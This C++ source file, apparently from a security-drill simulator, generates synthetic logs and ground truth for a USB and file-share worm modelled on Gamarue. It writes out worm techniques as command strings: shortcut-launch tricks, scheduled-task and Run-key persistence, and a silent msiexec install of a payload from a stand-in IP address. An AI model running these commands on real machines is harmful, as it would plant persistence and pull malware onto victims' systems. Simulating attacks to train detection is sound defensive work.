// SPDX-License-Identifier: EUPL-1.2
#include "drill/attack/worm.h"

#include <fmt/format.h>

#include <array>

#include "drill/vocabulary/antivirus.h"
#include "drill/vocabulary/services.h"

namespace beffroi::drill::attack {
namespace {

using namespace world;
using activity::Parent;
using activity::Program;
using activity::system_program;

constexpr std::array<std::string_view, 5> kShareFolders = {"courriers", "photos", "conseil", "urbanisme", "cantine"};

/// How the shortcut starts what hides behind it.
Program opening(const Worm& worm, const std::string& file) {
  switch (worm.way) {
    case 0: return system_program("cmd.exe", fmt::format("/c start explorer \"{}\" & \"{}\"", worm.shortcut, file));
    case 1: return system_program("rundll32.exe", fmt::format("\"{}\",DllRegisterServer", file));
    default: return system_program("wscript.exe", fmt::format("//B //E:vbs \"{}\"", file));
  }
}

std::string home_of(const Session& session, const Worm& worm) {
  return fmt::format("C:\\Users\\{}\\AppData\\Roaming\\{}", session.account->name, worm.copy);
}

/// It copies itself, stays, and calls home.
Caught settle_worm(Attack& attack, const Session& session, const Worm& worm, const Parent& opened, Timestamp started) {
  Stage& stage = attack.stage;
  const Host& host = *session.host;
  const std::string home = home_of(session, worm);
  Timestamp time = attack.wait(started, 1, 4);
  const Parent copy = activity::run(stage, session, {home, fmt::format("\"{}\"", home)}, time, opened);
  time = attack.wait(time, 1, 5);
  if (attack.random.chance(60)) {
    const std::string task = fmt::format("\\{}", attack.random.word(8));
    activity::run(stage, session,
                  system_program("schtasks.exe", fmt::format("/create /sc onlogon /tn {} /tr \"{}\" /f", task.substr(1), home)),
                  time, copy);
    stage.log(host, time + milliseconds(300), vocabulary::task_creation_audited(session.actor, task, home, "", host.computer));
    stage.log(host, time + milliseconds(310), vocabulary::task_registered(task, session.account->qualified()));
    attack.truth.persistence.push_back({host.computer, "scheduled_task", task, time});
  } else {
    const std::string value =
        fmt::format("add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {} /t REG_SZ /d \"{}\" /f",
                    attack.random.word(6), home);
    activity::run(stage, session, system_program("reg.exe", value), time, copy);
    attack.truth.persistence.push_back({host.computer, "run_key", home, time});
  }
  time = attack.wait(time, 5, 40);
  activity::run(stage, session,
                system_program("msiexec.exe", fmt::format("/q /i http://{}:8080/{}", worm.server, attack.random.word(11))),
                time, copy);
  attack.truth.command_and_control.push_back({host.computer, "download", worm.server, time});
  attack.truth.touch(host, "compromised", started);
  return {copy, started, attack.wait(time, 10, 60)};
}

}  // namespace

Worm draw_worm(Random& random) {
  constexpr std::array<std::string_view, 4> kShortcuts = {"Documents", "Photos", "USB DISK", "Courriers 2026"};
  constexpr std::array<std::string_view, 3> kHiding = {"\\.Trashes", "\\System Volume Information", "\\_"};
  Worm worm;
  worm.way = static_cast<int>(random.below(3));
  constexpr std::array<std::string_view, 3> kKinds = {".exe", ".dat", ".vbs"};
  worm.shortcut = std::string(random.pick(kShortcuts)) + ".lnk";
  worm.payload = fmt::format("{}\\{}{}", random.pick(kHiding), random.word(random.between(4, 9)),
                             kKinds[static_cast<std::size_t>(worm.way)]);
  worm.copy = fmt::format("{}\\{}.exe", random.word(6), random.word(7));
  worm.server = fmt::format("203.0.113.{}", random.between(2, 250));
  return worm;
}

Caught catch_from_stick(Attack& attack, const Session& session, const Worm& worm, const vocabulary::Stick& stick,
                        Timestamp time) {
  const std::string file = fmt::format("{}:{}", stick.letter, worm.payload);
  Parent opened = activity::run(attack.stage, session, opening(worm, file), time);
  if (worm.way == 0)
    opened = activity::run(attack.stage, session, {file, fmt::format("\"{}\"", file)}, time + milliseconds(300), opened);
  return settle_worm(attack, session, worm, opened, time);
}

Timestamp antivirus_stops_worm(Attack& attack, const Session& session, const Worm& worm, const vocabulary::Stick& stick,
                               Timestamp time) {
  const vocabulary::Threat threat{2147683792, "Worm:Win32/Gamarue", "Ver"};
  const std::string file = fmt::format("{}:{}", stick.letter, worm.payload);
  const std::string guid = attack.random.guid();
  const std::string user = session.account->qualified();
  attack.stage.log(*session.host, time, vocabulary::threat_found(threat, file, user, "C:\\Windows\\explorer.exe", guid));
  attack.stage.log(*session.host, time + seconds(5),
                   vocabulary::threat_removed(threat, file, user, "C:\\Windows\\explorer.exe", guid));
  attack.truth.touch(*session.host, "suspected", time);
  return time + seconds(5);
}

std::string infect_share(Attack& attack, const Session& session, const Worm& worm, Timestamp time) {
  const Host& server = attack.stage.town().host(Role::file_server);
  const vocabulary::Actor actor = activity::log_on_over_network(attack.stage, *session.host, server, *session.account,
                                                                vocabulary::Package::kerberos, time, minutes(12));
  const std::string& address = session.host->address;
  const std::uint16_t port = attack.stage.new_port(*session.host);
  attack.stage.log(server, time + milliseconds(90), vocabulary::share_opened(actor, address, port, "Commun", "D:\\Commun"));
  const std::string name = attack.random.word(6) + ".exe";
  std::string last;
  for (const std::string_view folder : kShareFolders) {
    time = time + milliseconds(attack.random.between(120, 900));
    last = fmt::format("{}\\{}", folder, name);
    for (const std::string& file : {last, fmt::format("{}\\{}", folder, worm.shortcut)}) {
      attack.stage.log(
          server, time,
          vocabulary::share_file_touched(actor, address, port, "Commun", "D:\\Commun", file, vocabulary::FileAccess::write));
    }
  }
  attack.truth.lateral.push_back(
      {session.host->computer, server.computer, session.account->qualified(), "shared_folder", time, "succeeded", true});
  attack.truth.touch(server, "suspected", time);
  return fmt::format("\\\\{}\\Commun\\{}", server.name, last);
}

Caught catch_from_share(Attack& attack, const Session& session, const Worm& worm, const std::string& path, Timestamp time) {
  const Parent opened = activity::run(
      attack.stage, session, system_program("cmd.exe", fmt::format("/c start explorer \"P:\\photos\" & \"{}\"", path)), time);
  const Parent started = activity::run(attack.stage, session, {"\\Device\\Mup" + path.substr(1), fmt::format("\"{}\"", path)},
                                       time + milliseconds(250), opened);
  return settle_worm(attack, session, worm, started, time);
}

}  // namespace beffroi::drill::attack
